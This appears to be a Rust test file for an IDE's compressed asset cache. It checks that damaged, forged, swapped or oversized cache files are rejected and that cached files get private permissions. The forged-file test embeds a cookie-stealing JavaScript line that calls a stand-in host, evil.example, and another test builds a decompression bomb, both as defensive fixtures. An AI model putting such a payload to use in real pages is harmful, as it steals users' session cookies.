//! Files that are not what they were.

use std::os::unix::fs::{FileExt, MetadataExt, PermissionsExt, symlink};

use super::*;
use crate::gateway::assets::record::{self, Record};

/// A directory with one small asset in it, and its file.
fn with_one() -> (tempfile::TempDir, PathBuf, Key, Vec<u8>) {
    let home = tempfile::tempdir().unwrap();
    let (key, content) = (Key::new(b"/a.js"), text(6, 40_000));
    let assets = open(home.path());
    send(&assets, &key, Coding::Zstd, &accepts("zstd"), &content);
    settle(&assets);
    let file = only_file(home.path());
    (home, file, key, content)
}

fn is_found(dir: &Path, key: &Key) -> bool {
    open(dir).find(key, &accepts("zstd")).is_some()
}

#[test]
fn damaged_files_are_dropped() {
    type Damage = fn(&Path);
    let damages: [(&str, Damage); 9] = [
        ("cut short", |path| {
            let file = std::fs::OpenOptions::new().write(true).open(path).unwrap();
            file.set_len(file.metadata().unwrap().len() - 1).unwrap();
        }),
        ("longer", |path| {
            let bytes = std::fs::read(path).unwrap();
            std::fs::write(path, [&bytes[..], b"x"].concat()).unwrap();
        }),
        ("empty", |path| std::fs::write(path, b"").unwrap()),
        ("zeros, as a power failure leaves them", |path| {
            let length = std::fs::metadata(path).unwrap().len();
            std::fs::write(path, vec![0; usize::try_from(length).unwrap()]).unwrap();
        }),
        ("a bit of the content", |path| flip(path, 5000)),
        ("a bit of the head", |path| flip(path, 50)),
        ("a link to what was there", |path| {
            let aside = path.with_extension("aside");
            std::fs::rename(path, &aside).unwrap();
            symlink(&aside, path).unwrap();
        }),
        ("a directory", |path| {
            std::fs::remove_file(path).unwrap();
            std::fs::create_dir(path).unwrap();
        }),
        ("a pipe", |path| {
            std::fs::remove_file(path).unwrap();
            nix::unistd::mkfifo(path, nix::sys::stat::Mode::S_IRWXU).unwrap();
        }),
    ];
    for (what, damage) in damages {
        let (home, file, key, _) = with_one();
        assert!(is_found(home.path(), &key));
        damage(&file);
        assert!(!is_found(home.path(), &key), "{what}");
        if what != "a directory" {
            assert_eq!(names(home.path()), [""; 0], "{what}: it is removed");
        }
    }
}

fn flip(path: &Path, place: u64) {
    let file = std::fs::OpenOptions::new().read(true).write(true).open(path).unwrap();
    let mut byte = [0];
    file.read_exact_at(&mut byte, place).unwrap();
    file.write_all_at(&[byte[0] ^ 0x10], place).unwrap();
}

#[test]
fn a_forged_file_is_dropped() {
    let (home, file, key, content) = with_one();
    let evil = b"fetch('https://evil.example/' + document.cookie)".repeat(100);
    let mut encoded = Vec::new();
    let mut encoder = Encoder::new(Coding::Zstd, None);
    encoder.write(&evil, &mut encoded).unwrap();
    encoder.finish(&mut encoded).unwrap();
    let forge = |key, identity, coding| {
        let length = encoded.len() as u64;
        let record = Record { key, coding, identity, length, is_smallest: true };
        std::fs::write(&file, [record.to_bytes(), encoded.clone()].concat()).unwrap();
    };
    // It says that it is of the content that the IDE has.
    forge(key, identity(&content), Coding::Zstd);
    assert!(!is_found(home.path(), &key));
    // It is a good file of another asset.
    forge(Key::new(b"/evil.js"), identity(&evil), Coding::Zstd);
    assert!(!is_found(home.path(), &key));
    // Of another coding.
    forge(key, identity(&evil), Coding::Gzip);
    assert!(!is_found(home.path(), &key));
    // It says what it is: then it is not what the IDE has.
    forge(key, identity(&evil), Coding::Zstd);
    let kept = open(home.path()).find(&key, &accepts("zstd")).unwrap();
    assert!(!kept.is_of(identity(&content)));
}

#[test]
fn a_bomb_is_looked_at_no_further_than_it_says() {
    let (home, file, key, content) = with_one();
    let mut encoded = Vec::new();
    let mut encoder = Encoder::new(Coding::Zstd, None);
    (0..200).for_each(|_| encoder.write(&[0; 1 << 20], &mut encoded).unwrap());
    encoder.finish(&mut encoded).unwrap();
    for said in [content.len() as u64, u64::MAX] {
        let identity = Identity { length: said, ..identity(&content) };
        let length = encoded.len() as u64;
        let record = Record { key, coding: Coding::Zstd, identity, length, is_smallest: true };
        std::fs::write(&file, [record.to_bytes(), encoded.clone()].concat()).unwrap();
        assert!(!is_found(home.path(), &key));
    }
    let length = u64::MAX - record::LENGTH as u64 + 1;
    let identity = identity(&content);
    let record = Record { key, coding: Coding::Zstd, identity, length, is_smallest: true };
    std::fs::write(&file, [record.to_bytes(), encoded].concat()).unwrap();
    assert!(!is_found(home.path(), &key));
}

#[test]
fn a_file_that_changes_while_it_is_in_use_is_noticed_before_it_is_sent() {
    let (home, file, key, content) = with_one();
    let assets = open(home.path());
    let all = accepts("zstd");
    let kept = assets.find(&key, &all).unwrap();
    assert_eq!(decoded(&kept).unwrap(), content);
    flip(&file, 5000);
    assert_eq!(bytes(&kept), None);
    assert!(assets.find(&key, &all).is_none(), "it is not tried again");
    settle(&assets);
    assert_eq!(names(home.path()), [""; 0]);
}

#[test]
fn another_file_in_its_place_is_proven_first() {
    let (home, file, key, content) = with_one();
    let assets = open(home.path());
    let all = accepts("zstd");
    // Another container of the same home has made the same.
    let copy = file.with_extension("copy");
    std::fs::copy(&file, &copy).unwrap();
    std::fs::rename(&copy, &file).unwrap();
    assert!(assets.find(&key, &all).is_none(), "who knows what that is");
    settle(&assets);
    assert_eq!(decoded(&assets.find(&key, &all).unwrap()).unwrap(), content);

    std::fs::remove_file(&file).unwrap();
    assert!(assets.find(&key, &all).is_none());
    settle(&assets);
    assert!(assets.find(&key, &all).is_none());
}

#[test]
fn whoever_clears_the_cache_does_no_harm() {
    let (home, _, key, content) = with_one();
    let dir = home.path().join("a/b");
    let (assets, all) = (open(&dir), accepts("zstd"));
    send(&assets, &key, Coding::Zstd, &all, &content);
    settle(&assets);
    std::fs::remove_dir_all(home.path().join("a")).unwrap();
    assert!(assets.find(&key, &all).is_none());
    send(&assets, &key, Coding::Zstd, &all, &content);
    settle(&assets);
    assert_eq!(decoded(&assets.find(&key, &all).unwrap()).unwrap(), content);
    assert!(is_found(&dir, &key), "it has been made again");
}

#[test]
fn where_there_is_no_directory_forms_stay_in_memory() {
    let home = tempfile::tempdir().unwrap();
    let at = |name: &str| home.path().join(name);
    std::fs::write(at("file"), b"").unwrap();
    std::fs::create_dir(at("real")).unwrap();
    symlink(at("real"), at("link")).unwrap();
    let (key, all, content) = (Key::new(b"/a.js"), accepts("zstd"), text(7, 40_000));
    for dir in [at("file"), at("file/assets"), at("link"), PathBuf::from("/proc/waiide/assets")] {
        let assets = open(&dir);
        assert!(send(&assets, &key, Coding::Zstd, &all, &content));
        settle(&assets);
        assert_eq!(decoded(&assets.find(&key, &all).unwrap()).unwrap(), content, "{dir:?}");
    }
    assert_eq!(names(&at("real")), [""; 0]);
    // A link above it is somebody's own choice.
    let dir = at("link").join("assets");
    send(&open(&dir), &key, Coding::Zstd, &all, &content);
    assert_eq!(names(&at("real")), ["assets"]);
}

#[test]
fn nobody_else_reads_or_writes_what_is_kept() {
    let home = tempfile::tempdir().unwrap();
    let dir = home.path().join("x/assets");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::set_permissions(&dir, PermissionsExt::from_mode(0o777)).unwrap();
    let assets = open(&dir);
    send(&assets, &Key::new(b"/a.js"), Coding::Zstd, &accepts("zstd"), &text(8, 40_000));
    settle(&assets);
    let mode = |path: &Path| std::fs::metadata(path).unwrap().mode() & 0o7777;
    assert_eq!(mode(&dir), 0o700);
    assert_eq!(mode(&only_file(&dir)), 0o600);
}

#[test]
fn what_is_nobodys_any_more_is_removed() {
    let (home, file, key, _) = with_one();
    let old = |name: &str| {
        let path = file.with_file_name(name);
        let made = std::fs::File::create(path).unwrap();
        made.set_modified(std::time::SystemTime::now() - Duration::from_secs(3600)).unwrap();
    };
    let base = file.file_name().unwrap().to_str().unwrap().to_owned();
    old(&format!("{base}.1-2-3.part"));
    old("something");
    old(".hidden");
    old(&base.to_uppercase());
    old(&base.replace("zstd", "deflate"));
    std::fs::write(file.with_file_name("young.part"), b"somebody writes").unwrap();
    assert!(is_found(home.path(), &key));
    let mut left = names(home.path());
    left.sort();
    assert_eq!(left, [base, "young.part".to_owned()]);
}
